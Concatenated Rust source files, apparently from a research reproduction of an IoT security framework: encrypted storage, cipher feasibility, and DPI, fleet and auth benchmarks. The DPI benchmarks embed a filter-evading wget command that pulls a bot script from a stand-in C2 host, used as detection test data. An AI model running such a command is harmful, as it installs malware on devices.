    pub fn put(&mut self, key: &str, value: &[u8]) {
        let stored = match self.cipher() {
            None => value.to_vec(),
            Some(cipher) => {
                self.counter += 1;
                let mut nonce = [0u8; 16];
                nonce[..8].copy_from_slice(&self.counter.to_be_bytes());
                let mut data = value.to_vec();
                Ctr::new(&cipher, &nonce).apply(&mut data);
                let mut framed = nonce.to_vec();
                framed.extend_from_slice(&data);
                framed
            }
        };
        self.entries.insert(key.to_string(), stored);
    }

    /// Retrieves and (if applicable) decrypts the value under `key`.
    pub fn get(&self, key: &str) -> Option<Vec<u8>> {
        let raw = self.entries.get(key)?;
        match self.cipher() {
            None => Some(raw.clone()),
            Some(cipher) => {
                if raw.len() < 16 {
                    return None;
                }
                let (nonce, data) = raw.split_at(16);
                let mut out = data.to_vec();
                Ctr::new(&cipher, nonce).apply(&mut out);
                Some(out)
            }
        }
    }

    /// What a physical/filesystem attacker sees: the raw bytes at rest.
    pub fn raw_at_rest(&self, key: &str) -> Option<&[u8]> {
        self.entries.get(key).map(Vec::as_slice)
    }

    /// Scans the at-rest bytes for a plaintext marker — the information-
    /// leakage probe used by the Table II analysis.
    pub fn leaks_plaintext(&self, marker: &[u8]) -> bool {
        self.entries
            .values()
            .any(|v| v.windows(marker.len().max(1)).any(|w| w == marker))
    }

    /// Number of stored entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// True if no entries are stored.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plaintext_store_leaks_secrets() {
        let mut store = LocalStore::new(StorageEncryption::None);
        store.put("wifi-psk", b"hunter2-home-network");
        assert!(store.leaks_plaintext(b"hunter2"));
        assert_eq!(store.get("wifi-psk").unwrap(), b"hunter2-home-network");
    }

    #[test]
    fn encrypted_store_hides_secrets_but_roundtrips() {
        let mut store = LocalStore::new(StorageEncryption::Encrypted {
            device_secret: b"device master".to_vec(),
        });
        store.put("wifi-psk", b"hunter2-home-network");
        assert!(!store.leaks_plaintext(b"hunter2"));
        assert_eq!(store.get("wifi-psk").unwrap(), b"hunter2-home-network");
    }

    #[test]
    fn rewriting_a_key_uses_a_fresh_nonce() {
        let mut store = LocalStore::new(StorageEncryption::Encrypted {
            device_secret: b"device master".to_vec(),
        });
        store.put("k", b"same value");
        let first = store.raw_at_rest("k").unwrap().to_vec();
        store.put("k", b"same value");
        let second = store.raw_at_rest("k").unwrap().to_vec();
        assert_ne!(first, second, "nonce reuse across writes");
        assert_eq!(store.get("k").unwrap(), b"same value");
    }

    #[test]
    fn missing_keys_and_len() {
        let mut store = LocalStore::new(StorageEncryption::None);
        assert!(store.is_empty());
        assert_eq!(store.get("nope"), None);
        store.put("a", b"1");
        assert_eq!(store.len(), 1);
    }
}
