//! Resource model: translates a Table I envelope into security-function
//! feasibility — which ciphers fit, how fast they run, what they cost in
//! energy. Drives the Table I harness (E-T1) and XLF's lightweight-crypto
//! negotiation (§IV-A2).

use crate::catalog::{DeviceSpec, PowerSource};
use xlf_lwcrypto::{CipherInfo, SpecFidelity, Structure};

/// Whether and how a cipher fits on a device.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum CryptoFeasibility {
    /// Fits comfortably; throughput estimate in bytes/second attached.
    Fits {
        /// Estimated sustained encryption throughput.
        throughput_bps: f64,
    },
    /// Runs, but below the required line rate for its traffic class.
    TooSlow {
        /// Estimated sustained encryption throughput.
        throughput_bps: f64,
    },
    /// Working RAM (state + round keys) exceeds the device's RAM.
    NoRam,
    /// Code footprint exceeds the device's flash.
    NoFlash,
    /// The device has no programmable CPU at all (passive RFID tags).
    NoCpu,
}

impl CryptoFeasibility {
    /// True for the `Fits` variant.
    pub fn fits(&self) -> bool {
        matches!(self, CryptoFeasibility::Fits { .. })
    }
}

/// Per-device resource accounting.
#[derive(Debug, Clone)]
pub struct ResourceModel {
    spec: DeviceSpec,
}

/// Estimated cycles per byte for a software implementation of each
/// structure family on a small MCU (coarse literature-informed constants;
/// the *relative* ordering is what the experiments rely on).
fn cycles_per_byte(info: &CipherInfo) -> f64 {
    let base = match info.structure {
        Structure::Arx => 18.0,
        Structure::Feistel => 45.0,
        Structure::GeneralizedFeistel => 35.0,
        Structure::Spn => 55.0,
    };
    // Cost scales with rounds relative to the family's typical count.
    let typical_rounds = match info.structure {
        Structure::Arx => 28.0,
        Structure::Feistel => 16.0,
        Structure::GeneralizedFeistel => 32.0,
        Structure::Spn => 20.0,
    };
    base * (info.rounds as f64 / typical_rounds).max(0.25)
}

/// Rough RAM working set: round keys + state + implementation scratch.
fn ram_needed(info: &CipherInfo) -> u64 {
    let round_key_bytes = (info.rounds as u64 + 1) * (info.block_bits as u64 / 8);
    round_key_bytes + info.block_bits as u64 / 8 + 64
}

/// Rough code footprint: SPNs carry table space, Feistels less.
fn flash_needed(info: &CipherInfo) -> u64 {
    match info.structure {
        Structure::Spn => 2048,
        Structure::Feistel => 1024,
        Structure::GeneralizedFeistel => 1024,
        Structure::Arx => 512,
    }
}

impl ResourceModel {
    /// Builds the model for a device spec.
    pub fn new(spec: DeviceSpec) -> Self {
        ResourceModel { spec }
    }

    /// The underlying spec.
    pub fn spec(&self) -> &DeviceSpec {
        &self.spec
    }

    /// Feasibility of running `cipher` on this device, requiring at least
    /// `required_bps` bytes/second of sustained throughput (use the
    /// device's telemetry rate).
    pub fn crypto_feasibility(&self, cipher: &CipherInfo, required_bps: f64) -> CryptoFeasibility {
        if self.spec.is_passive_tag() {
            return CryptoFeasibility::NoCpu;
        }
        if ram_needed(cipher) > self.spec.ram_bytes {
            return CryptoFeasibility::NoRam;
        }
        if self.spec.flash_bytes > 0 && flash_needed(cipher) > self.spec.flash_bytes {
            return CryptoFeasibility::NoFlash;
        }
        // Assume the device can spend at most 5% of its cycles on crypto.
        let crypto_cycles = self.spec.core_hz as f64 * 0.05;
        let throughput_bps = crypto_cycles / cycles_per_byte(cipher);
        if throughput_bps < required_bps {
            CryptoFeasibility::TooSlow { throughput_bps }
        } else {
            CryptoFeasibility::Fits { throughput_bps }
        }
    }

    /// Selects the best cipher from `candidates` for this device: the
    /// highest-security option (largest key) among those that fit,
    /// preferring exact-spec implementations, then throughput.
    pub fn negotiate_cipher<'a>(
        &self,
        candidates: &'a [CipherInfo],
        required_bps: f64,
    ) -> Option<&'a CipherInfo> {
        let mut fitting: Vec<(&CipherInfo, f64)> = candidates
            .iter()
            .filter_map(|c| match self.crypto_feasibility(c, required_bps) {
                CryptoFeasibility::Fits { throughput_bps } => Some((c, throughput_bps)),
                _ => None,
            })
            .collect();
        fitting.sort_by(|a, b| {
            let key_a = a.0.key_bits.iter().max().unwrap_or(&0);
            let key_b = b.0.key_bits.iter().max().unwrap_or(&0);
            key_b
                .cmp(key_a)
                .then_with(|| fidelity_rank(a.0.fidelity).cmp(&fidelity_rank(b.0.fidelity)))
                .then_with(|| b.1.partial_cmp(&a.1).unwrap_or(std::cmp::Ordering::Equal))
        });
        fitting.first().map(|(c, _)| *c)
    }

    /// Energy cost estimate (millijoules) of encrypting-and-transmitting
    /// `bytes` over a radio: CPU cycles + TX cost. Only meaningful for
    /// battery devices; mains devices return 0.
    pub fn tx_energy_mj(&self, cipher: &CipherInfo, bytes: u64) -> f64 {
        if self.spec.power != PowerSource::Battery {
            return 0.0;
        }
        // ~1 nJ per cycle on an MCU, ~0.2 µJ per transmitted byte.
        let cpu_mj = cycles_per_byte(cipher) * bytes as f64 * 1e-9 * 1e3;
        let tx_mj = bytes as f64 * 0.2e-6 * 1e3;
        cpu_mj + tx_mj
    }
}

fn fidelity_rank(f: SpecFidelity) -> u8 {
    match f {
        SpecFidelity::Exact => 0,
        SpecFidelity::Faithful => 1,
        SpecFidelity::Structural => 2,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalog::DeviceClass;
    use xlf_lwcrypto::registry;

    fn infos() -> Vec<CipherInfo> {
        registry(b"resource tests")
            .iter()
            .map(|c| c.info())
            .collect()
    }

    #[test]
    fn passive_tags_cannot_run_ciphers() {
        let model = ResourceModel::new(DeviceSpec::of(DeviceClass::HidGlassTagRfid));
        for info in infos() {
            assert_eq!(
                model.crypto_feasibility(&info, 100.0),
                CryptoFeasibility::NoCpu
            );
        }
    }

    #[test]
    fn phones_run_everything() {
        let model = ResourceModel::new(DeviceSpec::of(DeviceClass::Iphone6sPlus));
        for info in infos() {
            assert!(
                model.crypto_feasibility(&info, 10_000.0).fits(),
                "{} should fit on a phone",
                info.name
            );
        }
    }

    #[test]
    fn sensor_class_fits_lightweight_but_struggles_at_high_rates() {
        let model = ResourceModel::new(DeviceSpec::of(DeviceClass::SensorDevice));
        let infos = infos();
        let speck = infos.iter().find(|i| i.name == "SPECK").unwrap();
        assert!(model.crypto_feasibility(speck, 1_000.0).fits());
        // At megabyte rates the MCU cannot keep up with anything.
        let any_fits_at_10mb = infos
            .iter()
            .any(|i| model.crypto_feasibility(i, 10_000_000.0).fits());
        assert!(!any_fits_at_10mb);
    }

    #[test]
    fn negotiation_prefers_strong_exact_ciphers_when_room() {
        let model = ResourceModel::new(DeviceSpec::of(DeviceClass::SamsungSmartTv));
        let infos = infos();
        let chosen = model.negotiate_cipher(&infos, 10_000.0).unwrap();
        // On an unconstrained device the negotiation should land on a
        // 256-bit-capable cipher.
        assert!(chosen.key_bits.contains(&256), "chose {}", chosen.name);
    }

    #[test]
    fn negotiation_still_finds_something_for_sensors() {
        let model = ResourceModel::new(DeviceSpec::of(DeviceClass::SensorDevice));
        let infos = infos();
        let chosen = model.negotiate_cipher(&infos, 500.0);
        assert!(chosen.is_some());
    }

    #[test]
    fn battery_energy_accounting() {
        let model = ResourceModel::new(DeviceSpec::of(DeviceClass::FitbitFlex));
        let infos = infos();
        let aes = infos.iter().find(|i| i.name == "AES").unwrap();
        let energy = model.tx_energy_mj(aes, 1_000_000);
        assert!(energy > 0.0);
        let mains = ResourceModel::new(DeviceSpec::of(DeviceClass::NetgearRouter));
        assert_eq!(mains.tx_energy_mj(aes, 1_000_000), 0.0);
    }

    #[test]
    fn arx_is_cheaper_than_spn_per_byte() {
        let infos = infos();
        let speck = infos.iter().find(|i| i.name == "SPECK").unwrap();
        let aes = infos.iter().find(|i| i.name == "AES").unwrap();
        assert!(cycles_per_byte(speck) < cycles_per_byte(aes));
    }
}
