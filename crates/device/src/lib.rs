//! Device-layer models for the XLF reproduction: the Table I device
//! catalog with its resource envelopes, plus the on-device substrates the
//! paper's device-layer security functions operate on — firmware with
//! signed OTA updates, local storage, credentials, sensors, and a
//! simulated device runtime that plugs into `xlf-simnet`.
//!
//! The vulnerability model ([`vulns`]) encodes the paper's Table II rows so
//! the attacks crate can exploit exactly the weaknesses the paper
//! enumerates, and XLF's device-layer mechanisms can close them.

#![forbid(unsafe_code)]
#![warn(missing_docs)]
#![cfg_attr(not(test), deny(clippy::unwrap_used, clippy::expect_used))]

pub mod catalog;
pub mod credentials;
pub mod firmware;
pub mod resources;
pub mod runtime;
pub mod sensor;
pub mod storage;
pub mod vulns;

pub use catalog::{catalog, DeviceClass, DeviceSpec, PowerSource};
pub use credentials::{CredentialStore, LoginOutcome};
pub use firmware::{FirmwareError, FirmwareImage, FirmwareStore, UpdatePolicy};
pub use resources::{CryptoFeasibility, ResourceModel};
pub use runtime::{DeviceConfig, DeviceState, SimDevice};
pub use sensor::{Sensor, SensorKind};
pub use storage::{LocalStore, StorageEncryption};
pub use vulns::{VulnSet, Vulnerability};
