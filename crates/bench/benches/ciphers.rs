//! E-T3 bench — per-cipher CTR throughput over the full Table III
//! registry (the measured column of the table3 harness, under Criterion
//! statistics).

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use xlf_lwcrypto::modes::Ctr;
use xlf_lwcrypto::registry;

fn bench_ciphers(c: &mut Criterion) {
    let mut group = c.benchmark_group("table3_ctr_throughput");
    group.sample_size(10);
    let mut seen = Vec::new();
    for cipher in registry(b"bench") {
        let info = cipher.info();
        if seen.contains(&info.name) {
            continue;
        }
        seen.push(info.name);
        let mut data = vec![0xA5u8; 16 * 1024];
        let nonce = vec![7u8; cipher.block_size()];
        group.throughput(Throughput::Bytes(data.len() as u64));
        group.bench_with_input(BenchmarkId::from_parameter(info.name), &(), |b, _| {
            b.iter(|| Ctr::new(cipher.as_ref(), &nonce).apply(&mut data));
        });
    }
    group.finish();
}

criterion_group!(benches, bench_ciphers);
criterion_main!(benches);
