//! Engine hot-path bench — arena 4-ary scheduler vs the retained
//! `BinaryHeap` replica under steady-state churn, and the blocked SoA
//! kNN correlator vs the retained per-pair naive path. The acceptance
//! gates live in the `exp_engine` binary; this harness gives the same
//! comparisons per-operation resolution for profiling.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use xlf_analytics::graph::{
    community_report_into, deviation_scores, label_propagation_seeded, normalize_features,
    similarity_graph_into, similarity_graph_naive, FeatureMatrix, GraphScratch,
};
use xlf_simnet::queue::{EventQueue, NaiveEventQueue};
use xlf_simnet::{Duration, SimTime};

fn splitmix(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// Inline payload sized like the pre-overhaul `Event`, so naive-heap
/// sifts move what the old scheduler moved.
#[derive(Clone, Copy)]
struct FatPayload {
    _pad: [u64; 16],
}

/// One pop/push cycle at constant queue depth, shared verbatim between
/// the two queue types.
macro_rules! churn_cycle {
    ($q:expr, $state:expr, $seq:expr) => {{
        let (at, _, payload) = $q.pop().unwrap();
        std::hint::black_box(&payload);
        $q.push(
            at + Duration::from_micros(splitmix($state) % 1_000_000),
            *$seq,
            payload,
        );
        *$seq += 1;
    }};
}

macro_rules! prefill {
    ($q:expr, $depth:expr, $state:expr, $seq:expr) => {
        for _ in 0..$depth {
            $q.push(
                SimTime::from_micros(splitmix($state) % 1_000_000),
                *$seq,
                FatPayload { _pad: [0; 16] },
            );
            *$seq += 1;
        }
    };
}

fn bench_scheduler_churn(c: &mut Criterion) {
    let mut group = c.benchmark_group("scheduler_churn");
    group.sample_size(20);
    for &depth in &[1024usize, 65_536] {
        group.throughput(Throughput::Elements(1));
        group.bench_with_input(BenchmarkId::new("arena_4ary", depth), &depth, |b, &d| {
            let mut q = EventQueue::new();
            let mut state = 7u64;
            let mut seq = 0u64;
            prefill!(q, d, &mut state, &mut seq);
            b.iter(|| churn_cycle!(q, &mut state, &mut seq));
        });
        group.bench_with_input(BenchmarkId::new("naive_binary", depth), &depth, |b, &d| {
            let mut q = NaiveEventQueue::new();
            let mut state = 7u64;
            let mut seq = 0u64;
            prefill!(q, d, &mut state, &mut seq);
            b.iter(|| churn_cycle!(q, &mut state, &mut seq));
        });
    }
    group.finish();
}

/// Same synthetic fleet shape the `exp_engine` sweep uses: four
/// behavioural clusters plus per-home jitter over the stream layout.
fn synthetic_features(homes: usize, dims: usize) -> Vec<Vec<f64>> {
    let mut state = 0x5eed_f00d_u64;
    (0..homes)
        .map(|i| {
            let cluster = (i % 4) as f64;
            (0..dims)
                .map(|d| {
                    let jitter = (splitmix(&mut state) % 1000) as f64 / 1e4;
                    cluster * 10.0 + d as f64 + jitter
                })
                .collect()
        })
        .collect()
}

fn bench_knn_correlator(c: &mut Criterion) {
    const DIMS: usize = 20;
    const K: usize = 8;
    const GAMMA: f64 = 8.0;
    const ITERS: usize = 100;
    let mut group = c.benchmark_group("knn_correlator");
    group.sample_size(10);
    for &homes in &[128usize, 512] {
        let raw = synthetic_features(homes, DIMS);
        let mut normalized = raw.clone();
        normalize_features(&mut normalized);
        let flat: Vec<f64> = raw.iter().flatten().copied().collect();
        let seed: Vec<usize> = (0..homes).collect();
        group.throughput(Throughput::Elements((homes * homes) as u64));

        group.bench_with_input(BenchmarkId::new("graph_naive", homes), &homes, |b, _| {
            b.iter(|| std::hint::black_box(similarity_graph_naive(&normalized, K, GAMMA)));
        });
        let mut matrix = FeatureMatrix::new();
        matrix.fill_from_rows(&normalized);
        let (mut dist, mut sel, mut adj) = (Vec::new(), Vec::new(), Vec::new());
        group.bench_with_input(BenchmarkId::new("graph_blocked", homes), &homes, |b, _| {
            b.iter(|| {
                similarity_graph_into(&matrix, K, GAMMA, &mut dist, &mut sel, &mut adj);
                std::hint::black_box(&adj);
            });
        });

        group.bench_with_input(BenchmarkId::new("epoch_naive", homes), &homes, |b, _| {
            b.iter(|| {
                let mut n = raw.clone();
                normalize_features(&mut n);
                let adj = similarity_graph_naive(&n, K, GAMMA);
                let labels = label_propagation_seeded(&adj, ITERS, &seed);
                std::hint::black_box(deviation_scores(&adj, &labels));
            });
        });
        let mut scratch = GraphScratch::new();
        group.bench_with_input(BenchmarkId::new("epoch_blocked", homes), &homes, |b, _| {
            b.iter(|| {
                scratch.matrix.fill_from_flat(&flat, homes, DIMS);
                community_report_into(K, GAMMA, ITERS, Some(&seed), &mut scratch);
                std::hint::black_box(scratch.scores());
            });
        });
    }
    group.finish();
}

criterion_group!(benches, bench_scheduler_churn, bench_knn_correlator);
criterion_main!(benches);
