//! E-M4 bench — plaintext vs encrypted DPI inspection cost per payload,
//! plus the fast-path sweep: naive per-rule scans vs the single-pass
//! engines (Aho–Corasick / token index / batched) across rule-set sizes.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use xlf_core::dpi::{default_rules, match_batch_sharded, EncryptedDpi, PlaintextDpi, Rule};
use xlf_lwcrypto::searchable::{Token, Tokenizer};
use xlf_simnet::SimTime;

fn bench_dpi(c: &mut Criterion) {
    let payload = b"POST /telemetry temperature=71.2 humidity=40 wget${IFS}http://cnc.evil/bot.sh trailer bytes";
    let mut group = c.benchmark_group("dpi_inspection");
    group.sample_size(20);
    group.throughput(Throughput::Bytes(payload.len() as u64));

    let plain = PlaintextDpi::new(default_rules());
    group.bench_function("plaintext", |b| {
        b.iter(|| std::hint::black_box(plain.inspect(payload)));
    });

    let mut enc = EncryptedDpi::new(default_rules());
    enc.bind_session(b"bench session").expect("bind");
    let endpoint = Tokenizer::new(b"bench session").expect("tokenizer");
    group.bench_function("encrypted_tokenize_and_match", |b| {
        b.iter(|| {
            let tokens = endpoint.tokenize(payload);
            std::hint::black_box(enc.inspect("dev", &tokens, SimTime::ZERO))
        });
    });
    let tokens = endpoint.tokenize(payload);
    group.bench_function("encrypted_match_only", |b| {
        b.iter(|| std::hint::black_box(enc.inspect("dev", &tokens, SimTime::ZERO)));
    });
    group.finish();
}

fn sweep_rules(n: usize) -> Vec<Rule> {
    (0..n)
        .map(|i| Rule {
            name: format!("sig-{i:04}"),
            keyword: format!("xlf:{i:04x}:c2-marker").into_bytes(),
        })
        .collect()
}

fn sweep_payload(rng: &mut StdRng, size: usize, rules: &[Rule]) -> Vec<u8> {
    let mut payload: Vec<u8> = (0..size).map(|_| rng.gen_range(0x20u8..0x7f)).collect();
    let keyword = &rules[rules.len() / 2].keyword;
    payload[size / 2..size / 2 + keyword.len()].copy_from_slice(keyword);
    payload
}

/// Rule-set size sweep at a fixed 1 KiB payload: the per-rule scans
/// degrade linearly in rule count, the single-pass engines stay flat.
fn bench_dpi_ruleset_sweep(c: &mut Criterion) {
    const PAYLOAD_SIZE: usize = 1024;
    const BATCH: usize = 16;
    let mut rng = StdRng::seed_from_u64(0x517f_0001);
    let mut group = c.benchmark_group("dpi_ruleset_sweep");
    group.sample_size(10);
    for &rule_count in &[8usize, 64, 256, 1024] {
        let rules = sweep_rules(rule_count);
        let payloads: Vec<Vec<u8>> = (0..BATCH)
            .map(|_| sweep_payload(&mut rng, PAYLOAD_SIZE, &rules))
            .collect();
        let refs: Vec<&[u8]> = payloads.iter().map(Vec::as_slice).collect();
        group.throughput(Throughput::Bytes((PAYLOAD_SIZE * BATCH) as u64));

        let plain = PlaintextDpi::new(rules.clone());
        group.bench_with_input(
            BenchmarkId::new("plaintext_naive", rule_count),
            &rule_count,
            |b, _| {
                b.iter(|| {
                    for p in &refs {
                        std::hint::black_box(plain.inspect_naive(p));
                    }
                });
            },
        );
        group.bench_with_input(
            BenchmarkId::new("plaintext_automaton", rule_count),
            &rule_count,
            |b, _| {
                b.iter(|| {
                    for p in &refs {
                        std::hint::black_box(plain.inspect(p));
                    }
                });
            },
        );
        group.bench_with_input(
            BenchmarkId::new("plaintext_batched", rule_count),
            &rule_count,
            |b, _| {
                b.iter(|| std::hint::black_box(plain.inspect_batch(&refs)));
            },
        );

        let endpoint = Tokenizer::new(b"bench sweep").expect("tokenizer");
        let streams: Vec<Vec<Token>> = refs.iter().map(|p| endpoint.tokenize(p)).collect();
        let mut enc_naive = EncryptedDpi::new(rules.clone()).with_naive_matching(true);
        enc_naive.bind_session(b"bench sweep").expect("bind");
        let mut enc_indexed = EncryptedDpi::new(rules.clone());
        enc_indexed.bind_session(b"bench sweep").expect("bind");
        group.bench_with_input(
            BenchmarkId::new("encrypted_naive", rule_count),
            &rule_count,
            |b, _| {
                b.iter(|| {
                    for t in &streams {
                        std::hint::black_box(enc_naive.match_stream(t));
                    }
                });
            },
        );
        group.bench_with_input(
            BenchmarkId::new("encrypted_token_index", rule_count),
            &rule_count,
            |b, _| {
                b.iter(|| {
                    std::hint::black_box(enc_indexed.inspect_batch("dev", &streams, SimTime::ZERO))
                });
            },
        );
        group.bench_with_input(
            BenchmarkId::new("encrypted_index_sharded", rule_count),
            &rule_count,
            |b, _| {
                b.iter(|| std::hint::black_box(match_batch_sharded(&enc_indexed, &streams, 4)));
            },
        );
    }
    group.finish();
}

criterion_group!(benches, bench_dpi, bench_dpi_ruleset_sweep);
criterion_main!(benches);
