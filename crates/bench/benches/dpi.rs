//! E-M4 bench — plaintext vs encrypted DPI inspection cost per payload.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use xlf_core::dpi::{default_rules, EncryptedDpi, PlaintextDpi};
use xlf_lwcrypto::searchable::Tokenizer;
use xlf_simnet::SimTime;

fn bench_dpi(c: &mut Criterion) {
    let payload = b"POST /telemetry temperature=71.2 humidity=40 wget${IFS}http://cnc.evil/bot.sh trailer bytes";
    let mut group = c.benchmark_group("dpi_inspection");
    group.sample_size(20);
    group.throughput(Throughput::Bytes(payload.len() as u64));

    let plain = PlaintextDpi::new(default_rules());
    group.bench_function("plaintext", |b| {
        b.iter(|| std::hint::black_box(plain.inspect(payload)));
    });

    let mut enc = EncryptedDpi::new(default_rules());
    enc.bind_session(b"bench session").expect("bind");
    let endpoint = Tokenizer::new(b"bench session").expect("tokenizer");
    group.bench_function("encrypted_tokenize_and_match", |b| {
        b.iter(|| {
            let tokens = endpoint.tokenize(payload);
            std::hint::black_box(enc.inspect("dev", &tokens, SimTime::ZERO))
        });
    });
    let tokens = endpoint.tokenize(payload);
    group.bench_function("encrypted_match_only", |b| {
        b.iter(|| std::hint::black_box(enc.inspect("dev", &tokens, SimTime::ZERO)));
    });
    group.finish();
}

criterion_group!(benches, bench_dpi);
criterion_main!(benches);
