//! Fleet-tier bench — end-to-end fleet runs across home counts and
//! worker counts, plus the aggregation stage in isolation.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use xlf_fleet::{run_fleet, FleetAggregator, FleetAttack, FleetMetrics, FleetSpec, HomeOutcome};
use xlf_simnet::Duration;

fn fleet_spec(homes: usize, workers: usize) -> FleetSpec {
    FleetSpec::new(0xBE7C_0001, homes)
        .with_workers(workers)
        .with_horizon(Duration::from_secs(240))
        .with_attacks(vec![
            (FleetAttack::None, 15),
            (FleetAttack::BotnetRecruit, 1),
        ])
}

fn bench_fleet(c: &mut Criterion) {
    let mut group = c.benchmark_group("fleet");
    group.sample_size(10);

    for homes in [8usize, 32] {
        for workers in [1usize, 4] {
            group.throughput(Throughput::Elements(homes as u64));
            group.bench_function(
                BenchmarkId::new(format!("run_{homes}_homes"), format!("{workers}w")),
                |b| {
                    let spec = fleet_spec(homes, workers);
                    b.iter(|| std::hint::black_box(run_fleet(&spec, &FleetMetrics::new())));
                },
            );
        }
    }

    // Aggregation alone: correlate a pre-collected batch of home reports.
    let spec = fleet_spec(64, 1);
    let full = run_fleet(&spec, &FleetMetrics::new()).expect("fleet runs");
    let collected: Vec<_> = spec
        .stamp()
        .into_iter()
        .zip(full.rows.iter().map(|r| HomeOutcome::Ok {
            report: r.report.clone(),
            observer_accuracy: r.observer_accuracy,
        }))
        .collect();
    group.throughput(Throughput::Elements(collected.len() as u64));
    group.bench_function("aggregate_64_reports", |b| {
        b.iter(|| std::hint::black_box(FleetAggregator::new(&spec).aggregate(collected.clone())));
    });
    group.finish();
}

criterion_group!(benches, bench_fleet);
criterion_main!(benches);
