//! E-M1 bench — per-request authentication cost (compute, not modeled
//! network latency): delegation proxy cache hit vs cloud-only validation.

use criterion::{criterion_group, criterion_main, Criterion};
use xlf_core::auth::{
    AccessOrigin, AuthRequest, CloudOnlyAuth, DelegationProxy, LatencyModel, PrivilegeTier,
};
use xlf_simnet::SimTime;

fn request() -> AuthRequest {
    AuthRequest {
        user: "alice".to_string(),
        device: "lamp".to_string(),
        origin: AccessOrigin::Lan,
        tier: PrivilegeTier::Basic,
    }
}

fn bench_auth(c: &mut Criterion) {
    let mut group = c.benchmark_group("auth_per_request");
    group.sample_size(20);
    group.bench_function("delegation_proxy_cached", |b| {
        let mut proxy = DelegationProxy::new(LatencyModel::default());
        proxy.authenticate(&request(), SimTime::ZERO);
        b.iter(|| std::hint::black_box(proxy.authenticate(&request(), SimTime::from_secs(1))));
    });
    group.bench_function("cloud_only", |b| {
        let mut cloud = CloudOnlyAuth::new(LatencyModel::default());
        b.iter(|| std::hint::black_box(cloud.authenticate(&request(), SimTime::from_secs(1))));
    });
    group.finish();
}

criterion_group!(benches, bench_auth);
criterion_main!(benches);
