//! E-F4 bench — end-to-end cost of a full scenario simulation and of one
//! Core correlation sweep over a populated evidence store.

use criterion::{criterion_group, criterion_main, Criterion};
use xlf_bench::scenarios::{run_scenario, AttackScenario, SCENARIO_END_S};
use xlf_core::correlation::{CorrelationConfig, CorrelationEngine};
use xlf_core::framework::XlfConfig;
use xlf_simnet::SimTime;

fn bench_crosslayer(c: &mut Criterion) {
    let mut group = c.benchmark_group("crosslayer");
    group.sample_size(10);

    group.bench_function("full_botnet_scenario_simulation", |b| {
        b.iter(|| {
            std::hint::black_box(run_scenario(
                1,
                XlfConfig::full(),
                AttackScenario::BotnetRecruitFlood,
            ))
        });
    });

    let home = run_scenario(1, XlfConfig::full(), AttackScenario::BotnetRecruitFlood);
    let engine = CorrelationEngine::new(CorrelationConfig::default());
    let now = SimTime::from_secs(SCENARIO_END_S);
    group.bench_function("correlation_sweep", |b| {
        let core = home.core.borrow();
        b.iter(|| std::hint::black_box(engine.evaluate_all(&core.store, now)));
    });
    group.finish();
}

criterion_group!(benches, bench_crosslayer);
criterion_main!(benches);
