//! E-M3 bench — shaping decision cost per packet across modes.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use xlf_core::shaping::{ShapingMode, TrafficShaper};
use xlf_simnet::Duration;

fn bench_shaping(c: &mut Criterion) {
    let modes: Vec<(&str, ShapingMode)> = vec![
        ("off", ShapingMode::Off),
        ("pad256", ShapingMode::PadOnly { bucket: 256 }),
        (
            "pad1024_delay",
            ShapingMode::PadAndDelay {
                bucket: 1024,
                max_delay: Duration::from_millis(500),
            },
        ),
    ];
    let mut group = c.benchmark_group("shaping_per_packet");
    group.sample_size(20);
    for (name, mode) in modes {
        group.bench_with_input(BenchmarkId::from_parameter(name), &mode, |b, mode| {
            let mut shaper = TrafficShaper::new(*mode, 7);
            b.iter(|| std::hint::black_box(shaper.shape(333)));
        });
    }
    group.finish();
}

criterion_group!(benches, bench_shaping);
criterion_main!(benches);
