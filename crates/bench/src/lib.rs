//! Shared harness utilities for the XLF table/figure regeneration
//! binaries and Criterion benches.
//!
//! Every binary in `src/bin/` regenerates one artifact of the paper (see
//! DESIGN.md §3 for the experiment index); this library holds the
//! scenario builders and reporting helpers they share.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod scenarios;

/// Prints a Markdown-style table: header row, separator, data rows.
pub fn print_table(title: &str, header: &[&str], rows: &[Vec<String>]) {
    println!("\n## {title}\n");
    let mut widths: Vec<usize> = header.iter().map(|h| h.len()).collect();
    for row in rows {
        for (i, cell) in row.iter().enumerate() {
            if i < widths.len() {
                widths[i] = widths[i].max(cell.len());
            }
        }
    }
    let fmt_row = |cells: &[String]| {
        let padded: Vec<String> = cells
            .iter()
            .enumerate()
            .map(|(i, c)| format!("{c:<width$}", width = widths.get(i).copied().unwrap_or(4)))
            .collect();
        format!("| {} |", padded.join(" | "))
    };
    println!(
        "{}",
        fmt_row(&header.iter().map(|s| s.to_string()).collect::<Vec<_>>())
    );
    println!(
        "|{}|",
        widths
            .iter()
            .map(|w| "-".repeat(w + 2))
            .collect::<Vec<_>>()
            .join("|")
    );
    for row in rows {
        println!("{}", fmt_row(row));
    }
}

/// Formats a byte count human-readably.
pub fn human_bytes(bytes: u64) -> String {
    const UNITS: [&str; 5] = ["B", "KB", "MB", "GB", "TB"];
    let mut value = bytes as f64;
    let mut unit = 0;
    while value >= 1024.0 && unit < UNITS.len() - 1 {
        value /= 1024.0;
        unit += 1;
    }
    if unit == 0 {
        format!("{bytes} B")
    } else {
        format!("{value:.1} {}", UNITS[unit])
    }
}

/// Formats a frequency human-readably.
pub fn human_hz(hz: u64) -> String {
    if hz >= 1_000_000_000 {
        format!("{:.2} GHz", hz as f64 / 1e9)
    } else if hz >= 1_000_000 {
